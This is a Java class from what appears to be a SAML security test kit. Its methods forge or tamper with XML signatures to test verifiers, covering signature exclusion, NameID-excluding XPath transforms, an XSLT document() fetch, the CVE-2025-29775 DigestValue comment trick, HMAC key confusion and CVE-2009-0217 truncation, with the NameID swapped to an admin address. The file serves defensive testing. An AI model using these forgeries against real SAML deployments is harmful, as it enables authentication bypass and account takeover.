package io.cloudsign.saml.testkit.internal;

import static io.cloudsign.saml.testkit.internal.Attacks.ASSERTION_NS;
import static io.cloudsign.saml.testkit.internal.Attacks.DSIG_NS;
import static io.cloudsign.saml.testkit.internal.Attacks.child;

import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * Damage to one genuine enveloped signature (of the element that is its parent): signature
 * exclusion, Reference and transform tricks, key and algorithm confusion. Methods that change
 * SignedInfo re-sign it with the key they are given (as if a genuine signature were lifted or the
 * IdP had signed it), so that only a structural rule can reject the result. Not API.
 */
public final class SignatureSurgery {
  public static final String XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116";
  public static final String XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116";
  public static final String XPATH_FILTER2 = "http://www.w3.org/2002/06/xmldsig-filter2";
  public static final String BASE64 = "http://www.w3.org/2000/09/xmldsig#base64";
  public static final String HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256";
  public static final String SHA1_DIGEST = "http://www.w3.org/2000/09/xmldsig#sha1";
  private static final String DEFAULT_EVIL_NAME_ID = "admin@contoso.com";

  private SignatureSurgery() {}

  // ------------------------------------------------------------------ signature exclusion

  public static void remove(Element signature) {
    signature.getParentNode().removeChild(signature);
  }

  public static void removeSignedInfo(Element signature) {
    signature.removeChild(signedInfo(signature));
  }

  public static void emptySignatureValue(Element signature) {
    child(signature, DSIG_NS, "SignatureValue").setTextContent("");
  }

  public static void duplicateSignedInfo(Element signature) {
    Element signedInfo = signedInfo(signature);
    signature.insertBefore(signedInfo.cloneNode(true), signedInfo.getNextSibling());
  }

  public static void duplicateSignatureValue(Element signature) {
    Element value = child(signature, DSIG_NS, "SignatureValue");
    signature.insertBefore(value.cloneNode(true), value.getNextSibling());
  }

  /** A second, identical Reference; re-signed. */
  public static void duplicateReference(Element signature, PrivateKey key) {
    signedInfo(signature).appendChild(reference(signature).cloneNode(true));
    resign(signature, key);
  }

  /** The Reference URI becomes {@code uri(ID of the signed element)}; re-signed. */
  public static void referenceUri(
      Element signature, java.util.function.UnaryOperator<String> uri, PrivateKey key) {
    String id = ((Element) signature.getParentNode()).getAttribute("ID");
    reference(signature).setAttributeNS(null, "URI", uri.apply(id));
    resign(signature, key);
  }

  /** {@code URI=""} (the whole document) with its genuine digest; re-signed. */
  public static void emptyReferenceUri(Element signature, PrivateKey key) {
    Element reference = reference(signature);
    reference.setAttributeNS(null, "URI", "");
    Element root = signature.getOwnerDocument().getDocumentElement();
    setDigest(reference, digestWithout(root, signature, "SHA-256"));
    resign(signature, key);
  }

  /**
   * xml-crypto CVE-2025-29775: the NameID changes and the digest of the changed content hides in a
   * comment before the genuine DigestValue; c14n of SignedInfo drops the comment, so the
   * SignatureValue still holds.
   */
  public static void commentInDigestValue(Element signature) {
    Element signed = (Element) signature.getParentNode();
    Attacks.setNameId(signed, DEFAULT_EVIL_NAME_ID);
    Element digestValue = child(reference(signature), DSIG_NS, "DigestValue");
    String genuine = digestValue.getTextContent();
    String evil = digestWithout(signed, signature, "SHA-256");
    digestValue.setTextContent("");
    digestValue.appendChild(digestValue.getOwnerDocument().createComment(evil));
    digestValue.appendChild(digestValue.getOwnerDocument().createTextNode(genuine));
  }

  // ------------------------------------------------------------------ transforms

  /** An XSLT transform whose stylesheet fetches {@code canary} with {@code document()}. */
  public static String xsltTransform(String canary) {
    return "<Transform xmlns=\""
        + DSIG_NS
        + "\" Algorithm=\""
        + XSLT
        + "\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\""
        + " version=\"1.0\"><xsl:template match=\"/\"><xsl:copy-of"
        + " select=\"document('"
        + Xml.escape(canary)
        + "')\"/></xsl:template></xsl:stylesheet></Transform>";
  }

  /** An XPath transform that leaves the NameID out of the digest. */
  public static String xpathTransform() {
    return "<Transform xmlns=\""
        + DSIG_NS
        + "\" Algorithm=\""
        + XPATH
        + "\"><XPath>not(ancestor-or-self::*[local-name()='NameID'])</XPath></Transform>";
  }

  public static String base64Transform() {
    return "<Transform xmlns=\"" + DSIG_NS + "\" Algorithm=\"" + BASE64 + "\"/>";
  }

  /** Adds {@code transformXml} first to the Reference's Transforms; re-signed. */
  public static void addTransform(Element signature, String transformXml, PrivateKey key) {
    Element transforms = child(reference(signature), DSIG_NS, "Transforms");
    transforms.insertBefore(
        Attacks.fragment(signature.getOwnerDocument(), transformXml), transforms.getFirstChild());
    resign(signature, key);
  }

  /**
   * An XPath Filter 2.0 transform subtracting the NameID is added first; the digest is recomputed
   * without the NameID, which then changes to {@code admin@contoso.com}: the signature holds for a
   * verifier that runs the transform. Re-signed.
   */
  public static void xpathFilter2SubtractingNameId(Element signature, PrivateKey key) {
    Element signed = (Element) signature.getParentNode();
    Element reference = reference(signature);
    Element transforms = child(reference, DSIG_NS, "Transforms");
    String xml =
        "<Transform xmlns=\""
            + DSIG_NS
            + "\" Algorithm=\""
            + XPATH_FILTER2
            + "\"><f:XPath xmlns:f=\""
            + XPATH_FILTER2
            + "\" Filter=\"subtract\">//*[local-name()='NameID']</f:XPath></Transform>";
    transforms.insertBefore(
        Attacks.fragment(signature.getOwnerDocument(), xml), transforms.getFirstChild());
    Element nameId = Xml.descendants(signed, ASSERTION_NS, "NameID").get(0);
    Node parent = nameId.getParentNode();
    Node next = nameId.getNextSibling();
    parent.removeChild(nameId);
    setDigest(reference, digestWithout(signed, signature, "SHA-256"));
    parent.insertBefore(nameId, next);
    nameId.setTextContent(DEFAULT_EVIL_NAME_ID);
    resign(signature, key);
  }

  /** Replaces the Transforms of {@code signature}'s Reference with {@code algorithms}; re-signs. */
  public static void replaceTransforms(Element signature, List<String> algorithms, PrivateKey key) {
    Document doc = signature.getOwnerDocument();
    Element transforms = child(reference(signature), DSIG_NS, "Transforms");
    while (transforms.getFirstChild() != null) {
      transforms.removeChild(transforms.getFirstChild());
    }
    for (String algorithm : algorithms) {
      transforms.appendChild(
          Attacks.fragment(
              doc,
              "<Transform xmlns=\""
                  + DSIG_NS
                  + "\" Algorithm=\""
                  + Xml.escape(algorithm)
                  + "\"/>"));
    }
    resign(signature, key);
  }

  // ------------------------------------------------------------------ keys and algorithms

  /** Recomputes SignatureValue over SignedInfo with RSA-SHA256 and {@code key}. */
  public static void resign(Element signature, PrivateKey key) {
    try {
      Signature rsa = Signature.getInstance("SHA256withRSA");
      rsa.initSign(key);
      rsa.update(EnvelopedSigner.excC14n(signedInfo(signature)));
      child(signature, DSIG_NS, "SignatureValue")
          .setTextContent(Base64.getEncoder().encodeToString(rsa.sign()));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  /** Sets the text of every X509Certificate in {@code signature}'s KeyInfo. */
  public static void setKeyInfoCertificates(Element signature, String base64) {
    for (Element c : Xml.descendants(signature, DSIG_NS, "X509Certificate")) {
      c.setTextContent(base64);
    }
  }

  /** Replaces the X509Data of {@code signature}'s KeyInfo by the RSAKeyValue of {@code key}. */
  public static void keyValueInsteadOfCertificate(Element signature, RSAPublicKey key) {
    Element keyInfo = child(signature, DSIG_NS, "KeyInfo");
    while (keyInfo.getFirstChild() != null) {
      keyInfo.removeChild(keyInfo.getFirstChild());
    }
    Base64.Encoder b64 = Base64.getEncoder();
    keyInfo.appendChild(
        Attacks.fragment(
            signature.getOwnerDocument(),
            "<KeyValue xmlns=\""
                + DSIG_NS
                + "\"><RSAKeyValue><Modulus>"
                + b64.encodeToString(unsigned(key.getModulus()))
                + "</Modulus><Exponent>"
                + b64.encodeToString(unsigned(key.getPublicExponent()))
                + "</Exponent></RSAKeyValue></KeyValue>"));
  }

  private static byte[] unsigned(BigInteger n) {
    byte[] b = n.toByteArray();
    return b[0] == 0 ? Arrays.copyOfRange(b, 1, b.length) : b;
  }

  /** Removes KeyInfo from {@code signature} (it is not signed). */
  public static void removeKeyInfo(Element signature) {
    signature.removeChild(child(signature, DSIG_NS, "KeyInfo"));
  }

  /** Switches the Reference to a SHA-1 digest (recomputed) and re-signs with RSA-SHA256. */
  public static void sha1Digest(Element signature, PrivateKey key) {
    Element signed = (Element) signature.getParentNode();
    Element reference = reference(signature);
    child(reference, DSIG_NS, "DigestMethod").setAttributeNS(null, "Algorithm", SHA1_DIGEST);
    setDigest(reference, digestWithout(signed, signature, "SHA-1"));
    resign(signature, key);
  }

  /**
   * Turns the signature into HMAC-SHA256 keyed with {@code keyBytes} (the IdP's public key: a
   * verifier that feeds "the key" of the certificate to HMAC accepts it). With {@code outputBits}
   * (CVE-2009-0217; null: none) an {@code HMACOutputLength} is declared and the value truncated.
   */
  public static void hmac(Element signature, byte[] keyBytes, Integer outputBits) {
    Element signedInfo = signedInfo(signature);
    Element method = child(signedInfo, DSIG_NS, "SignatureMethod");
    method.setAttributeNS(null, "Algorithm", HMAC_SHA256);
    if (outputBits != null) {
      Element length = signature.getOwnerDocument().createElementNS(DSIG_NS, "HMACOutputLength");
      length.setTextContent(Integer.toString(outputBits));
      method.appendChild(length);
    }
    try {
      Mac mac = Mac.getInstance("HmacSHA256");
      mac.init(new SecretKeySpec(keyBytes, "HmacSHA256"));
      byte[] value = mac.doFinal(EnvelopedSigner.excC14n(signedInfo));
      if (outputBits != null) {
        value = Arrays.copyOf(value, Math.max(0, (outputBits + 7) / 8));
      }
      child(signature, DSIG_NS, "SignatureValue")
          .setTextContent(Base64.getEncoder().encodeToString(value));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  // ------------------------------------------------------------------ digests

  /** Base64 digest of exc-c14n of {@code signed} without {@code signature}. */
  public static String digestWithout(Element signed, Element signature, String jcaDigest) {
    Node parent = signature.getParentNode();
    Node next = signature.getNextSibling();
    parent.removeChild(signature);
    try {
      byte[] c14n = EnvelopedSigner.excC14n(signed);
      return Base64.getEncoder().encodeToString(MessageDigest.getInstance(jcaDigest).digest(c14n));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    } finally {
      parent.insertBefore(signature, next);
    }
  }

  private static void setDigest(Element reference, String base64) {
    child(reference, DSIG_NS, "DigestValue").setTextContent(base64);
  }

  private static Element signedInfo(Element signature) {
    return child(signature, DSIG_NS, "SignedInfo");
  }

  private static Element reference(Element signature) {
    return child(signedInfo(signature), DSIG_NS, "Reference");
  }
}
